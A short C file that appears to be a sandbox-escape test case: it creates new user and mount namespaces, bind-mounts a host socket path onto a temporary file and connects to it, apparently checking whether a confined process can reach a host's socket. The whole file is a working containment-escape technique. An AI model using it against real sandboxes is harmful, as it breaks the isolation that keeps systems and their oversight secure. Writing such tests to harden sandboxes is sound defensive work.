/* Binds a host's socket to another place in a namespace of its own and connects there. */
#include "attack.h"

void victim(void) { listen_at(own_path("sock"), SOCK_STREAM); }
void attack(int n, char **word) {
    int fd;
    TRY(unshare(CLONE_NEWUSER | CLONE_NEWNS));
    char place[] = "./fvm-escape-XXXXXX";
    TRY(fd = mkstemp(place));
    TRY(mount(word[n - 1], place, NULL, MS_BIND, NULL));
    unlink(place);
    connect_to(place, SOCK_STREAM);
}
